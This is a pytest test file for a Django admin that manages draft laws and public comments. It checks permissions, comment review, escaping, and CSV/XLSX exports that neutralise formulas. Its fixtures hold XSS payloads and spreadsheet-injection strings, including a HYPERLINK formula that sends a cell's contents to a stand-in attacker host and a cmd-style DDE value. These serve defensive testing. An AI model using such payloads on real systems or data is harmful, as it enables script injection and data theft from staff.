"""Drafts and the public's comments in the admin: who may do what, reading and marking comments,
exporting them (CSV, XLSX) with every hostile value made harmless, revisions and the lost-edit
guard."""

import csv
import io
import zipfile
from datetime import timedelta

import pytest
from django.contrib.auth.models import Group
from django.urls import reverse
from openpyxl import load_workbook
from reversion.models import Version

from documents.models import Draft, DraftComment
from tests.drafts_helpers import (
    NOW,
    build_draft,
)

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def frozen_now(time_machine):
    time_machine.move_to(NOW, tick=False)


@pytest.fixture
def make_draft(db):
    return build_draft


XSS = {
    "script": "<script>alert(1)</script>",
    "attribute": '"><img src=x onerror=alert(1)>',
    "formula": '=HYPERLINK("http://ke-xau.example/?d="&A1,"Bấm vào đây")',
}


# Addresses the form's email check lets through (a quoted local part may hold almost anything).
HOSTILE_EMAILS = {
    "script": '"<script>alert(1)</script>"@example.vn',
    "formula": "=cmd|x@example.vn",
}


@pytest.fixture
def clerk(django_user_model):
    """A member of *Văn thư*, the registry."""
    user = django_user_model.objects.create_user("vanthu", password="mat-khau-1", is_staff=True)
    user.groups.add(Group.objects.get(name="Văn thư"))
    return user


@pytest.fixture
def draft_with_hostile_comments(make_draft):
    draft = make_draft(slug="du-thao-luat-viec-lam")
    for kind, payload in XSS.items():
        DraftComment.objects.create(
            draft=draft,
            name=f"{payload} ({kind})",
            email=HOSTILE_EMAILS.get(kind, "ke-xau@example.vn"),
            organisation=payload,
            content=f"{payload}\nDòng thứ hai",
        )
    DraftComment.objects.create(
        draft=draft,
        name="Trần Thị Bình",
        email="binh@example.vn",
        organisation="",
        content="-Đề nghị bỏ Điều 5.",
    )
    make_draft(title="Dự thảo khác", slug="du-thao-khac").comments.create(
        name="Người khác", email="khac@example.vn", content="Ý kiến về dự thảo khác"
    )
    return draft


def text(response, status=200):
    assert response.status_code == status, response.status_code
    return response.content.decode()


# -- who does what -------------------------------------------------------------------------------


def test_the_registry_manages_drafts_and_reads_comments_but_nothing_of_the_news(
    client, clerk, draft_with_hostile_comments
):
    draft = draft_with_hostile_comments
    comment = draft.comments.first()
    client.force_login(clerk)
    for url in (
        reverse("admin:documents_draft_changelist"),
        reverse("admin:documents_draft_add"),
        reverse("admin:documents_draft_change", args=[draft.pk]),
        reverse("admin:documents_draft_history", args=[draft.pk]),
        reverse("admin:documents_draftcomment_changelist"),
        reverse("admin:documents_draftcomment_change", args=[comment.pk]),
        reverse("admin:documents_draft_comments_csv", args=[draft.pk]),
        reverse("admin:documents_draft_comments_xlsx", args=[draft.pk]),
    ):
        assert client.get(url).status_code == 200, url
    assert client.get(reverse("admin:news_article_changelist")).status_code == 403
    assert client.get(reverse("admin:news_image_changelist")).status_code == 403
    # Comments come from the public's form only, and only a superuser deletes one.
    assert client.get(reverse("admin:documents_draftcomment_add")).status_code == 403
    delete = reverse("admin:documents_draftcomment_delete", args=[comment.pk])
    assert client.get(delete).status_code == 403
    assert client.post(delete, {"post": "yes"}).status_code == 403
    assert DraftComment.objects.filter(pk=comment.pk).exists()


def test_editors_may_do_the_same(client, make_user, draft_with_hostile_comments):
    client.force_login(make_user("editor"))
    draft = draft_with_hostile_comments
    assert client.get(reverse("admin:documents_draft_change", args=[draft.pk])).status_code == 200
    assert client.get(reverse("admin:documents_draftcomment_changelist")).status_code == 200
    export = reverse("admin:documents_draft_comments_csv", args=[draft.pk])
    assert client.get(export).status_code == 200


def test_reporters_see_none_of_it(client, make_user, draft_with_hostile_comments):
    draft = draft_with_hostile_comments
    client.force_login(make_user("reporter"))
    for url in (
        reverse("admin:documents_draft_changelist"),
        reverse("admin:documents_draft_change", args=[draft.pk]),
        reverse("admin:documents_draftcomment_changelist"),
        reverse("admin:documents_draft_comments_csv", args=[draft.pk]),
        reverse("admin:documents_draft_comments_xlsx", args=[draft.pk]),
        reverse("documents:draft-preview", args=[draft.pk]),
    ):
        assert client.get(url).status_code in (403, 404), url
    assert "Dự thảo lấy ý kiến" not in text(client.get(reverse("admin:index")))


def test_only_a_superuser_deletes_a_comment(admin_client, draft_with_hostile_comments):
    comment = draft_with_hostile_comments.comments.first()
    delete = reverse("admin:documents_draftcomment_delete", args=[comment.pk])
    assert admin_client.post(delete, {"post": "yes"}).status_code == 302
    assert not DraftComment.objects.filter(pk=comment.pk).exists()


def test_a_draft_with_comments_is_not_deleted(admin_client, draft_with_hostile_comments):
    draft = draft_with_hostile_comments
    page = text(admin_client.get(reverse("admin:documents_draft_delete", args=[draft.pk])))
    assert "ý kiến góp ý" in page.lower()
    admin_client.post(reverse("admin:documents_draft_delete", args=[draft.pk]), {"post": "yes"})
    assert Draft.objects.filter(pk=draft.pk).exists()


# -- reading and marking comments --------------------------------------------------------------


def test_hostile_comments_are_escaped_in_the_admins_list_and_detail(
    client, clerk, draft_with_hostile_comments
):
    client.force_login(clerk)
    listing = text(client.get(reverse("admin:documents_draftcomment_changelist")))
    pages = [listing]
    for comment in draft_with_hostile_comments.comments.all():
        pages.append(
            text(client.get(reverse("admin:documents_draftcomment_change", args=[comment.pk])))
        )
    for page in pages:
        assert "<script>alert(1)</script>" not in page
        assert "<img src=x onerror=alert(1)>" not in page
        assert "onerror=alert(1)>" not in page.replace("onerror=alert(1)&gt;", "")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in listing
    assert "&quot;&gt;&lt;img src=x onerror=alert(1)&gt;" in listing
    assert "=HYPERLINK(&quot;http://ke-xau.example/" in listing
    assert "&quot;&lt;script&gt;alert(1)&lt;/script&gt;&quot;@example.vn" in listing


def test_comments_are_read_only_but_their_status_is_marked(
    client, clerk, draft_with_hostile_comments
):
    comment = draft_with_hostile_comments.comments.get(name="Trần Thị Bình")
    client.force_login(clerk)
    url = reverse("admin:documents_draftcomment_change", args=[comment.pk])
    page = text(client.get(url))
    assert 'name="content"' not in page and 'name="name"' not in page
    assert 'name="status"' in page
    response = client.post(
        url, {"status": "accepted", "content": "Đã sửa nội dung", "name": "Người khác"}
    )
    assert response.status_code == 302
    comment.refresh_from_db()
    assert comment.status == DraftComment.Status.ACCEPTED
    assert (comment.content, comment.name) == ("-Đề nghị bỏ Điều 5.", "Trần Thị Bình")
    assert comment.reviewed_by == clerk and comment.reviewed_at == NOW


def test_comments_are_marked_in_bulk_and_filtered(client, clerk, draft_with_hostile_comments):
    draft = draft_with_hostile_comments
    client.force_login(clerk)
    changelist = reverse("admin:documents_draftcomment_changelist")
    hostile = draft.comments.exclude(name="Trần Thị Bình")
    chosen = list(hostile.values_list("pk", flat=True)[:2])
    response = client.post(
        changelist, {"action": "mark_read", "_selected_action": chosen}, follow=True
    )
    assert "Đã đánh dấu 2 ý kiến là “Đã đọc”." in text(response)
    assert DraftComment.objects.filter(status="read").count() == 2
    page = text(client.get(changelist + f"?draft__id__exact={draft.pk}&status__exact=new"))
    assert "Trần Thị Bình" in page and "Người khác" not in page
    found = text(client.get(changelist + "?q=B%E1%BB%8F+%C4%90i%E1%BB%81u+5"))
    assert "Trần Thị Bình" in found and "ke-xau@example.vn" not in found


# -- exports -----------------------------------------------------------------------------------


def test_the_csv_export_is_one_file_per_draft_with_formulas_made_harmless(
    client, clerk, draft_with_hostile_comments
):
    client.force_login(clerk)
    draft = draft_with_hostile_comments
    response = client.get(reverse("admin:documents_draft_comments_csv", args=[draft.pk]))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert (
        response["Content-Disposition"] == 'attachment; filename="y-kien-du-thao-luat-viec-lam.csv"'
    )
    body = response.content.decode("utf-8")
    assert body.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(body.removeprefix("\ufeff"))))
    assert rows[0] == [
        "STT",
        "Gửi lúc (GMT+7)",
        "Họ và tên",
        "Thư điện tử",
        "Cơ quan, tổ chức",
        "Nội dung góp ý",
        "Tình trạng",
    ]
    assert len(rows) == 5  # this draft's four comments only
    assert "Người khác" not in body
    cells = [cell for row in rows[1:] for cell in row]
    assert all(not cell.startswith(("=", "+", "-", "@")) for cell in cells)
    formula = XSS["formula"]
    assert f"'{formula}" in cells and f"'{formula}\nDòng thứ hai" in cells
    assert "'-Đề nghị bỏ Điều 5." in cells and "'=cmd|x@example.vn" in cells
    assert "<script>alert(1)</script>\nDòng thứ hai" in cells  # text, as typed: CSV is not HTML
    assert rows[1][1] == "10:00 15/05/2024"


def test_the_xlsx_export_holds_only_text(client, clerk, draft_with_hostile_comments):
    client.force_login(clerk)
    draft = draft_with_hostile_comments
    response = client.get(reverse("admin:documents_draft_comments_xlsx", args=[draft.pk]))
    assert response.status_code == 200
    assert response["Content-Disposition"] == (
        'attachment; filename="y-kien-du-thao-luat-viec-lam.xlsx"'
    )
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = [list(row) for row in sheet.iter_rows()]
    assert [cell.value for cell in rows[0]][:3] == ["STT", "Gửi lúc (GMT+7)", "Họ và tên"]
    assert len(rows) == 5
    cells = [cell for row in rows[1:] for cell in row]
    assert all(cell.data_type == "s" for cell in cells if cell.value is not None)
    values = [cell.value for cell in cells]
    assert f"'{XSS['formula']}" in values
    assert "'-Đề nghị bỏ Điều 5." in values and "'=cmd|x@example.vn" in values
    assert not any(str(value).startswith(("=", "+", "-", "@")) for value in values)
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "HYPERLINK" in sheet_xml  # text, never a formula


def test_the_draft_form_offers_the_exports_and_the_preview(client, clerk, make_draft):
    draft = make_draft()
    client.force_login(clerk)
    page = text(client.get(reverse("admin:documents_draft_change", args=[draft.pk])))
    assert f'href="/admin/documents/draft/{draft.pk}/y-kien.csv"' in page
    assert f'href="/admin/documents/draft/{draft.pk}/y-kien.xlsx"' in page
    assert f'href="/xem-truoc/du-thao/{draft.pk}/"' in page
    assert client.get(f"/xem-truoc/du-thao/{draft.pk}/").status_code == 200


def test_an_export_of_a_draft_that_does_not_exist_is_a_404(client, clerk):
    client.force_login(clerk)
    assert client.get("/admin/documents/draft/999/y-kien.csv").status_code == 404


# -- editing: revisions and the lost-edit guard ---------------------------------------------------


def draft_form_data(draft, **overrides):
    from django.utils import timezone

    def split(name, moment):
        local = timezone.localtime(moment) if moment else None
        return {
            f"{name}_0": local.strftime("%d/%m/%Y") if local else "",
            f"{name}_1": local.strftime("%H:%M:%S") if local else "",
        }

    data = {
        "title": draft.title,
        "slug": draft.slug,
        "drafting_unit": draft.drafting_unit,
        "summary": draft.summary,
        "body": draft.body,
        "status": draft.status,
        "response_body": draft.response_body,
        "loaded_version": draft.version,
        "loaded_revision": "",
        **split("opens_at", draft.opens_at),
        **split("closes_at", draft.closes_at),
        **split("published_at", draft.published_at),
    }
    for prefix in ("files", "response_files"):
        data.update(
            {
                f"{prefix}-TOTAL_FORMS": "0",
                f"{prefix}-INITIAL_FORMS": "0",
                f"{prefix}-MIN_NUM_FORMS": "0",
                f"{prefix}-MAX_NUM_FORMS": "1000",
            }
        )
    data.update(overrides)
    return data


def test_a_draft_is_added_with_its_window_and_every_save_keeps_a_revision(client, clerk):
    client.force_login(clerk)
    unsaved = Draft(
        title="Dự thảo Luật Việc làm (sửa đổi)",
        drafting_unit="Vụ Pháp chế",
        body="<p>Điều 1.</p><script>alert(1)</script>",
        opens_at=NOW,
        closes_at=NOW + timedelta(days=60),
        status=Draft.Status.PUBLISHED,
    )
    data = draft_form_data(unsaved, slug="", loaded_version="")
    data["published_at_0"] = data["published_at_1"] = ""
    response = client.post(reverse("admin:documents_draft_add"), data)
    assert response.status_code == 302, response.content.decode()[:3000]
    draft = Draft.objects.get()
    assert draft.slug == "du-thao-luat-viec-lam-sua-doi"
    assert draft.body == "<p>Điều 1.</p>"
    assert draft.published_at == NOW and draft.created_by == clerk
    assert Version.objects.get_for_object(draft).count() == 1
    assert client.get(draft.get_absolute_url()).status_code == 200


def test_a_window_that_closes_before_it_opens_is_a_form_error(client, clerk, make_draft):
    draft = make_draft()
    client.force_login(clerk)
    data = draft_form_data(draft, closes_at_0="01/05/2024", closes_at_1="00:00:00")
    page = text(client.post(reverse("admin:documents_draft_change", args=[draft.pk]), data))
    assert "Thời điểm hết hạn phải sau thời điểm bắt đầu lấy ý kiến." in page


def test_the_second_of_two_editors_is_refused_and_loses_nothing(
    client, clerk, make_user, make_draft
):
    draft = make_draft()
    url = reverse("admin:documents_draft_change", args=[draft.pk])
    opened = draft_form_data(draft)  # both open the form now
    editor = make_user("editor")
    client.force_login(editor)
    first = client.post(url, {**opened, "title": "Tên do biên tập viên sửa"})
    assert first.status_code == 302
    client.force_login(clerk)
    second = client.post(url, {**opened, "summary": "Tóm tắt văn thư viết"})
    page = text(second)
    assert "CHƯA được lưu" in page and "editor" in page
    assert "Tóm tắt văn thư viết" in page  # still in the form
    draft.refresh_from_db()
    assert draft.title == "Tên do biên tập viên sửa"
    assert draft.summary != "Tóm tắt văn thư viết"
